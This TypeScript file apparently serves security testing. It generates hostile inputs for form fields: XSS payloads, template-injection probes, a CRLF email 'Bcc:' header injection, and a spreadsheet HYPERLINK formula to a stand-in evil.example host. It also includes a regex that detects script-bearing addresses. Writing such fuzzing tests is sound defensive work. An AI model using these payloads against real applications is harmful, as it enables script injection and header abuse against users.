import type { FreeText } from './free-texts.ts'

// What breaks out of attributes, elements, data blocks, headers, cells and templates, and what moves or hides what is read.
const extras = (n: number) => [
  '</script>',
  '{{7*7}}${7*7}',
  '\u202E',
  '🧉',
  `<img src=x onerror=alert(${n})>`,
  '\u0007\u001B[31m',
  `\r\nBcc: evil${n}@evil.example\r\n`,
  `<a href="javascript:alert(${n})">x</a>[x](javascript:alert(${n}))`,
  ']]><!--',
  'W'.repeat(300),
]

const markOf = (n: number) => `"><xss${n}>`

function everything(n: number, max: number): string {
  const formula = max < 80 ? '=1' : `=HYPERLINK("http://evil.example/xss${n}";"x")`
  return extras(n).reduce(
    (text, extra) => (text.length + extra.length > max ? text : text + extra),
    formula + markOf(n),
  )
}

/** From the worst to what hardly any field refuses. */
export function hostileTexts({ kind, max }: FreeText, n: number): string[] {
  if (kind === 'URL') return [`javascript:alert(${n})//xss${n}`, `https://evil.example/?q="><xss${n}>`]
  if (kind === 'EMAIL') return [`"><xss${n}>@evil.example`, `xss${n}@evil.example\r\nBcc: evil${n}@evil.example`]
  const all = everything(n, max)
  return [all, all.replaceAll(/\p{Cc}/gu, ''), markOf(n)]
}

/** What PostgreSQL cannot store. An address holds no lone surrogate. */
export const unstorable = (method: string): string[] => (method === 'DELETE' ? ['a\0b'] : ['a\0b', 'a\uD800b'])

/** An address that a browser would run. */
export const isScript = (address: string): boolean => /^[\s\p{C}]*(javascript|vbscript|data):/iu.test(address)

/** The numbers of hostile texts that stand in what somebody is answered. */
export const marksIn = (text: string): number[] => [
  ...new Set([...text.matchAll(/xss(\d+)/gi)].map(([, n]) => Number(n))),
]
